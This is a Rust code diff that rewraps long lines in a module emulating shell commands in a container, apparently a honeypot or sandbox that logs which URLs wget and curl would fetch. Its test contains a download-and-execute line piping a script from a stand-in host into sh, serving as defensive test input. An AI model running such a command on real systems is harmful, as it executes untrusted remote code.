@@ -23,15 +23,20 @@ pub(super) struct Ran {
 /// The command is a shell that would read from its input.
 pub(super) fn is_shell(words: &[String]) -> bool {
     match words.split_first() {
-        Some((first, rest)) if matches!(base(first), "sh" | "bash" | "ash" | "dash") => !rest.iter().any(|word| word == "-c"),
-        Some((first, rest)) if base(first) == "chroot" => rest.len() == 1 || is_shell(rest.get(1..).unwrap_or_default()),
+        Some((first, rest)) if matches!(base(first), "sh" | "bash" | "ash" | "dash") => {
+            !rest.iter().any(|word| word == "-c")
+        }
+        Some((first, rest)) if base(first) == "chroot" => {
+            rest.len() == 1 || is_shell(rest.get(1..).unwrap_or_default())
+        }
         _ => false,
     }
 }
 
 /// Runs a command in the container of this host name.
 pub(super) fn run(words: &[String], host: &str) -> Ran {
-    let mut shell = Shell { host, ran: Ran { runs: Some(Duration::from_millis(300)), ..Ran::default() }, left: MAX_COMMANDS };
+    let mut shell =
+        Shell { host, ran: Ran { runs: Some(Duration::from_millis(300)), ..Ran::default() }, left: MAX_COMMANDS };
     shell.command(words, 0);
     shell.ran.output.truncate(MAX_OUTPUT);
     shell.ran
@@ -154,7 +159,9 @@ impl Shell<'_> {
     }
 
     fn fetch(&mut self, tool: &str, arguments: &[String]) {
-        let is_url = |word: &&String| word.contains("://") || (!word.starts_with('-') && word.contains('.') && word.contains('/'));
+        let is_url = |word: &&String| {
+            word.contains("://") || (!word.starts_with('-') && word.contains('.') && word.contains('/'))
+        };
         for url in arguments.iter().filter(is_url) {
             self.ran.fetches.push((url.clone(), tool.to_owned()));
         }
@@ -181,7 +188,9 @@ fn split(line: &str) -> Vec<(Vec<String>, &'static str)> {
             }
             (None | Some('"'), '\\') => word.get_or_insert_default().extend(rest.next()),
             (None, ' ' | '\t' | '\r') => words.extend(word.take()),
-            (None, ';' | '\n' | '|' | '&') if !(next == '&' && word.as_ref().is_some_and(|word| word.ends_with('>'))) => {
+            (None, ';' | '\n' | '|' | '&')
+                if !(next == '&' && word.as_ref().is_some_and(|word| word.ends_with('>'))) =>
+            {
                 words.extend(word.take());
                 let twice = rest.next_if_eq(&next).is_some();
                 let joint = match (next, twice) {
@@ -227,7 +236,11 @@ mod tests {
     #[test]
     fn what_is_fetched_is_known() {
         let ran = run_line("wget -q http://192.0.2.9/x.sh -O- | sh; curl -sL 192.0.2.9/y", "");
-        assert_eq!(ran.fetches, [("http://192.0.2.9/x.sh", "wget"), ("192.0.2.9/y", "curl")].map(|(url, tool)| (url.to_owned(), tool.to_owned())));
+        assert_eq!(
+            ran.fetches,
+            [("http://192.0.2.9/x.sh", "wget"), ("192.0.2.9/y", "curl")]
+                .map(|(url, tool)| (url.to_owned(), tool.to_owned()))
+        );
     }
 
     #[test]
